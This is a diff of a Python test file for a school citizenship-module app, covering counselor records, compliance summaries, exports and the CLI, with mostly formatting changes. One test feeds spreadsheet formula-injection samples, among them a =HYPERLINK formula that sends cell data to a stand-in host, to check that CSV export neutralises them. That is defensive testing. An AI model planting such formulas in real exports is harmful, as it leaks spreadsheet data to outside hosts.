@@ -1,4 +1,5 @@
 """Counselor records, the compliance summary (against hand-computed numbers), exports, CLI."""
+
 from __future__ import annotations
 
 import io
@@ -6,13 +7,13 @@ import json
 from datetime import date, timedelta
 
 import pytest
+from staff_fixtures import small_catalog, synced_pass, take
 
 from citizenship_app.cli import main
 from citizenship_app.core import access, assignments, classgrid, compliance, progress, records
 from citizenship_app.core.access import SYSTEM
 from citizenship_app.core.records import RecordFilter
 from citizenship_app.core.store import connect, db_path, migrate, open_store
-from staff_fixtures import small_catalog, synced_pass, take
 
 
 @pytest.fixture
@@ -27,11 +28,11 @@ def school(demo_db, cat):
     last_week = (date.today() - timedelta(days=7)).isoformat()
     assignments.assign(demo_db, "t-qureshi", "class-04", alpha, last_week)
     assignments.assign(demo_db, "t-qureshi", "class-04", beta)
-    take(demo_db, "s-260011", alpha)                       # José: passed alpha
-    take(demo_db, "s-260012", alpha, right=False)          # Hana: failed alpha (overdue)
+    take(demo_db, "s-260011", alpha)  # José: passed alpha
+    take(demo_db, "s-260012", alpha, right=False)  # Hana: failed alpha (overdue)
     progress.save_page(demo_db, "s-260013", "g35-beta", 0, 2)  # Malik: reading beta
-    take(demo_db, "s-260014", gamma)                       # Olivia: passed gamma
-    take(demo_db, "s-260001", cat.get("k2-alpha"))         # Mateo (KG)
+    take(demo_db, "s-260014", gamma)  # Olivia: passed gamma
+    take(demo_db, "s-260001", cat.get("k2-alpha"))  # Mateo (KG)
     return demo_db
 
 
@@ -51,10 +52,16 @@ def test_records_filter_by_status_grade_class_module_and_search(school, cat):
     everything = get()
     # 5 students x 3 modules (3-5) + 10 x 1 (k-2: KG and 02); grades 07 and 10 have none here.
     assert len(everything) == 25
-    assert ids(get(status="passed")) == [("s-260001", "k2-alpha"), ("s-260011", "g35-alpha"), ("s-260014", "g35-gamma")]
+    assert ids(get(status="passed")) == [
+        ("s-260001", "k2-alpha"),
+        ("s-260011", "g35-alpha"),
+        ("s-260014", "g35-gamma"),
+    ]
     assert ids(get(status="failed")) == [("s-260012", "g35-alpha")]
     assert ids(get(status="in_progress")) == [("s-260013", "g35-beta")]
-    assert ids(get(status="overdue")) == [(s, "g35-alpha") for s in ("s-260012", "s-260013", "s-260014", "s-260015")]
+    assert ids(get(status="overdue")) == [
+        (s, "g35-alpha") for s in ("s-260012", "s-260013", "s-260014", "s-260015")
+    ]
     assert len(get(status="not_started")) == 25 - 3 - 1 - 1
     assert len(get(status="incomplete")) == 22
     assert {r.grade for r in get(grade="04")} == {"04"} and len(get(grade="04")) == 15
@@ -69,7 +76,12 @@ def test_records_filter_by_status_grade_class_module_and_search(school, cat):
     assert get(until="2000-01-01") == []
     row = next(r for r in everything if r.person_id == "s-260011" and r.module_id == "g35-alpha")
     assert (row.status, row.best_score, row.attempts, row.class_id, row.school) == (
-        "passed", 100, 1, "class-04", "Harbor View K-12 Demo School")
+        "passed",
+        100,
+        1,
+        "class-04",
+        "Harbor View K-12 Demo School",
+    )
     assert row.machine and row.completed_at and not row.overdue
     hana = next(r for r in everything if r.person_id == "s-260012" and r.module_id == "g35-alpha")
     assert hana.overdue and hana.due_date and hana.status == "failed"
@@ -102,7 +114,10 @@ def test_a_teacher_sees_only_their_own_students(school, cat):
 def test_student_history_has_every_attempt(school, cat):
     take(school, "s-260012", cat.get("g35-alpha"))  # Hana passes on her second attempt
     h = records.student_history(school, "t-tanaka", "s-260012")
-    assert [(a.module_id, a.passed, a.score) for a in h.attempts] == [("g35-alpha", False, 0), ("g35-alpha", True, 100)]
+    assert [(a.module_id, a.passed, a.score) for a in h.attempts] == [
+        ("g35-alpha", False, 0),
+        ("g35-alpha", True, 100),
+    ]
     assert all(a.machine and a.submitted_at for a in h.attempts)
     assert [c.module_id for c in h.completions] == ["g35-alpha"]
     assert h.classes == ["Grade 4 - Qureshi"]
@@ -131,7 +146,8 @@ def test_summary_table_follows_every_write(school, cat):
              (SELECT MIN(completed_at) FROM completions c WHERE c.person_id = p.person_id AND c.module_id = p.module_id),
              (SELECT MAX(score) FROM completions c WHERE c.person_id = p.person_id AND c.module_id = p.module_id)
            FROM (SELECT person_id, module_id FROM quiz_attempts UNION SELECT person_id, module_id FROM page_progress) p
-           ORDER BY 1, 2""").fetchall()
+           ORDER BY 1, 2"""
+    ).fetchall()
     actual = school.execute(
         "SELECT person_id, module_id, attempts, open_attempts, passed_at, pass_score FROM module_summary ORDER BY 1, 2"
     ).fetchall()
@@ -141,14 +157,18 @@ def test_summary_table_follows_every_write(school, cat):
 def test_migration_4_summarises_records_made_before_it(tmp_path, cat):
     db = connect(db_path(tmp_path))
     migrate(db, target=3)
-    db.execute("INSERT INTO people (sourced_id, given_name, family_name, role, tier) VALUES ('s1', 'Ana', 'Ruiz', 'student', '3-5')")
+    db.execute(
+        "INSERT INTO people (sourced_id, given_name, family_name, role, tier) VALUES ('s1', 'Ana', 'Ruiz', 'student', '3-5')"
+    )
     db.conn.commit()
     take(db, "s1", cat.get("g35-alpha"), right=False)
     take(db, "s1", cat.get("g35-alpha"))
     progress.save_page(db, "s1", "g35-beta", 1, 2)
     db.conn.close()
     db = open_store(tmp_path)
-    rows = db.execute("SELECT module_id, attempts, pass_score, page FROM module_summary ORDER BY 1").fetchall()
+    rows = db.execute(
+        "SELECT module_id, attempts, pass_score, page FROM module_summary ORDER BY 1"
+    ).fetchall()
     assert rows == [("g35-alpha", 2, 100.0, None), ("g35-beta", 0, None, 1)]
 
 
@@ -161,14 +181,17 @@ YEAR = compliance.SchoolYear("2027", "2026-2027", date(2026, 8, 26), date(2027, 
 def history(demo_db):
     """Hand-made records: which students of grade 4 and KG completed what, and when."""
     passes = {
-        "s-260011": [("g35-alpha", "2026-09-02"), ("g35-beta", "2026-09-20")],   # complete
-        "s-260012": [("g35-alpha", "2026-10-01")],                              # beta missing
-        "s-260013": [("g35-alpha", "2026-09-15"), ("g35-beta", "2026-05-01")],   # beta last year
-        "s-260014": [("g35-alpha", "2026-08-26"), ("g35-beta", "2026-10-31"),    # complete (first day)
-                     ("g35-beta", "2026-11-02")],                                # (a second pass counts once)
-        "s-260015": [("g35-alpha", "2026-09-03"), ("g35-beta", "2027-06-19")],   # beta after the year
-        "s-260001": [("k2-alpha", "2026-10-12")],                                # complete (K-2)
-        "s-260016": [("g35-alpha", "2026-09-01"), ("g35-beta", "2026-09-01")],   # grade 7: not its tier
+        "s-260011": [("g35-alpha", "2026-09-02"), ("g35-beta", "2026-09-20")],  # complete
+        "s-260012": [("g35-alpha", "2026-10-01")],  # beta missing
+        "s-260013": [("g35-alpha", "2026-09-15"), ("g35-beta", "2026-05-01")],  # beta last year
+        "s-260014": [
+            ("g35-alpha", "2026-08-26"),
+            ("g35-beta", "2026-10-31"),  # complete (first day)
+            ("g35-beta", "2026-11-02"),
+        ],  # (a second pass counts once)
+        "s-260015": [("g35-alpha", "2026-09-03"), ("g35-beta", "2027-06-19")],  # beta after the year
+        "s-260001": [("k2-alpha", "2026-10-12")],  # complete (K-2)
+        "s-260016": [("g35-alpha", "2026-09-01"), ("g35-beta", "2026-09-01")],  # grade 7: not its tier
     }
     for person, done in passes.items():
         for module, day in done:
@@ -180,24 +203,42 @@ def test_compliance_matches_the_hand_count(history, cat):
     # Required by default: every module of the tier. 3-5 has alpha, beta, gamma: nobody did gamma.
     s = compliance.compliance(history, "t-tanaka", cat.modules.values(), YEAR)
     assert {r.grade: (r.enrolled, r.completed) for r in s.rows} == {
-        "KG": (5, 1), "02": (5, 0), "04": (5, 0), "07": (5, 0), "10": (5, 0)}
+        "KG": (5, 1),
+        "02": (5, 0),
+        "04": (5, 0),
+        "07": (5, 0),
+        "10": (5, 0),
+    }
     # The district requires only alpha and beta of grades 3-5.
     compliance.set_required_modules(history, "a-whitfield", "3-5", ["g35-alpha", "g35-beta"])
     s = compliance.compliance(history, "t-tanaka", cat.modules.values(), YEAR, months=True)
     assert {r.grade: (r.enrolled, r.completed, r.percent) for r in s.rows} == {
-        "KG": (5, 1, 20.0), "02": (5, 0, 0.0), "04": (5, 2, 40.0), "07": (5, 0, 0.0), "10": (5, 0, 0.0)}
-    assert [(r.school, r.enrolled, r.completed) for r in s.schools] == [("Harbor View K-12 Demo School", 25, 3)]
+        "KG": (5, 1, 20.0),
+        "02": (5, 0, 0.0),
+        "04": (5, 2, 40.0),
+        "07": (5, 0, 0.0),
+        "10": (5, 0, 0.0),
+    }
+    assert [(r.school, r.enrolled, r.completed) for r in s.schools] == [
+        ("Harbor View K-12 Demo School", 25, 3)
+    ]
     assert (s.total.enrolled, s.total.completed, s.total.percent) == (25, 3, 12.0)
     assert s.district == "Harbor View Demo School District"
     months = dict(s.by_month)
-    assert months["2026-08"] == 0 and months["2026-09"] == 1 and months["2026-10"] == 3  # José, then Mateo, Olivia
+    assert (
+        months["2026-08"] == 0 and months["2026-09"] == 1 and months["2026-10"] == 3
+    )  # José, then Mateo, Olivia
     # Only alpha required: José, Hana, Malik, Olivia, Arjun.
     compliance.set_required_modules(history, "a-whitfield", "3-5", ["g35-alpha"])
     s = compliance.compliance(history, "t-tanaka", cat.modules.values(), YEAR)
     assert {r.grade: r.completed for r in s.rows}["04"] == 5
     # Back to the default.
     compliance.set_required_modules(history, "a-whitfield", "3-5", None)
-    assert compliance.required_modules(history, cat.modules.values())["3-5"] == ["g35-alpha", "g35-beta", "g35-gamma"]
+    assert compliance.required_modules(history, cat.modules.values())["3-5"] == [
+        "g35-alpha",
+        "g35-beta",
+        "g35-gamma",
+    ]
 
 
 def test_compliance_is_for_counselors_and_administrators(history, cat):
@@ -219,17 +260,40 @@ def test_instruction_clause_is_quoted_from_the_procedure():
 
 # -- CLI -------------------------------------------------------------------------------------
 
+
 def test_cli_records_csv_and_json(demo_db, demo_dir, catalog, capsys):
     """The CLI reads the shipped catalog: records of its real 3-5 modules."""
     first, second = (m.id for m in catalog.for_tier("3-5")[:2])
     synced_pass(demo_db, "s-260011", first, "2026-10-01T16:00:00.000+00:00")
     synced_pass(demo_db, "s-260014", second, "2026-10-02T16:00:00.000+00:00")
     assignments.assign(demo_db, "t-qureshi", "class-04", catalog.get(first), "2026-10-15")
-    assert main(["--data-dir", str(demo_dir), "records", "--grade", "04", "--status", "passed", "--format", "csv"]) == 0
+    assert (
+        main(
+            ["--data-dir", str(demo_dir), "records", "--grade", "04", "--status", "passed", "--format", "csv"]
+        )
+        == 0
+    )
     rows = records.read_csv(capsys.readouterr().out)
     assert [(r.person_id, r.module_id, r.completed_at[:10]) for r in rows] == [  # Bennett, García
-        ("s-260014", second, "2026-10-02"), ("s-260011", first, "2026-10-01")]
-    assert main(["--data-dir", str(demo_dir), "records", "--class", "class-04", "--status", "overdue", "--format", "json"]) == 0
+        ("s-260014", second, "2026-10-02"),
+        ("s-260011", first, "2026-10-01"),
+    ]
+    assert (
+        main(
+            [
+                "--data-dir",
+                str(demo_dir),
+                "records",
+                "--class",
+                "class-04",
+                "--status",
+                "overdue",
+                "--format",
+                "json",
+            ]
+        )
+        == 0
+    )
     data = json.loads(capsys.readouterr().out)
     assert sorted(d["person_id"] for d in data) == ["s-260012", "s-260013", "s-260014", "s-260015"]
     assert all(d["overdue"] and d["class_id"] == "class-04" and d["due_date"] == "2026-10-15" for d in data)
@@ -256,18 +320,29 @@ def test_cli_compliance_json_and_pdf(history, demo_dir, tmp_path, capsys):
 
 # -- counselors see their own schools -------------------------------------------------------
 
+
 def add_second_school(db) -> None:
     """Bayside (org-bay), a second school of the demo district: one grade-5 class, two students."""
     with db.conn:
-        db.execute("INSERT INTO orgs (sourced_id, name, type, parent_id) VALUES ('org-bay', 'Bayside Elementary', 'school', 'org-hvsd')")
-        db.execute("INSERT INTO classes (sourced_id, title, school_id, grades, tier) VALUES ('class-bay5', 'Grade 5 - Ortiz', 'org-bay', '05', '3-5')")
+        db.execute(
+            "INSERT INTO orgs (sourced_id, name, type, parent_id) VALUES ('org-bay', 'Bayside Elementary', 'school', 'org-hvsd')"
+        )
+        db.execute(
+            "INSERT INTO classes (sourced_id, title, school_id, grades, tier) VALUES ('class-bay5', 'Grade 5 - Ortiz', 'org-bay', '05', '3-5')"
+        )
         db.execute("""INSERT INTO people (sourced_id, username, given_name, family_name, role, org_ids)
                       VALUES ('t-ortiz', 'mortiz', 'Marta', 'Ortiz', 'teacher', 'org-bay')""")
         for n, (given, family) in enumerate([("Zoe", "Baylor"), ("Yusuf", "Bayer")]):
-            db.execute("""INSERT INTO people (sourced_id, given_name, family_name, role, grade, tier, org_ids)
-                          VALUES (?, ?, ?, 'student', '05', '3-5', 'org-bay')""", [f"s-bay{n}", given, family])
-            db.execute("""INSERT INTO enrollments (sourced_id, class_id, person_id, school_id, role)
-                          VALUES (?, 'class-bay5', ?, 'org-bay', 'student')""", [f"e-bay{n}", f"s-bay{n}"])
+            db.execute(
+                """INSERT INTO people (sourced_id, given_name, family_name, role, grade, tier, org_ids)
+                          VALUES (?, ?, ?, 'student', '05', '3-5', 'org-bay')""",
+                [f"s-bay{n}", given, family],
+            )
+            db.execute(
+                """INSERT INTO enrollments (sourced_id, class_id, person_id, school_id, role)
+                          VALUES (?, 'class-bay5', ?, 'org-bay', 'student')""",
+                [f"e-bay{n}", f"s-bay{n}"],
+            )
         db.execute("""INSERT INTO enrollments (sourced_id, class_id, person_id, school_id, role)
                       VALUES ('e-bay-t', 'class-bay5', 't-ortiz', 'org-bay', 'teacher')""")
 
@@ -345,15 +420,22 @@ def test_a_counselors_compliance_summary_covers_their_schools_only(two_schools, 
         compliance.compliance(db, "t-tanaka", mods, YEAR, "org-bay")
     every = compliance.compliance(db, SYSTEM, mods, YEAR)  # the district's view
     assert [(r.school_id, r.enrolled, r.completed) for r in every.schools] == [
-        ("org-bay", 2, 1), ("org-hv", 25, mine.total.completed)]  # Yusuf did all three
+        ("org-bay", 2, 1),
+        ("org-hv", 25, mine.total.completed),
+    ]  # Yusuf did all three
     assert every.total.enrolled == 27 and every.total.completed == mine.total.completed + 1
     assert compliance.compliance(db, SYSTEM, mods, YEAR, "org-bay").total.enrolled == 2
 
 
 def test_csv_export_defuses_spreadsheet_formulas_and_reads_back_the_same(school, cat):
     """A roster name like =HYPERLINK(...) must not become a live formula in a spreadsheet."""
-    hostile = {"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")": "given_name", "+1-555": "family_name",
-               "@SUM(A1)": "identifier", "-2+3": "given_name", "\t=cmd": "family_name"}
+    hostile = {
+        '=HYPERLINK("http://x.example/?"&A1,"Click")': "given_name",
+        "+1-555": "family_name",
+        "@SUM(A1)": "identifier",
+        "-2+3": "given_name",
+        "\t=cmd": "family_name",
+    }
     rows = records.records(school, "t-tanaka", cat.modules.values())
     import dataclasses
 
@@ -364,7 +446,7 @@ def test_csv_export_defuses_spreadsheet_formulas_and_reads_back_the_same(school,
 
     cells = [cell for line in list(_csv.reader(io.StringIO(out.getvalue())))[1:] for cell in line]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
-    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")" in cells
+    assert '\'=HYPERLINK("http://x.example/?"&A1,"Click")' in cells
     assert records.read_csv(out.getvalue()) == rows
 
 
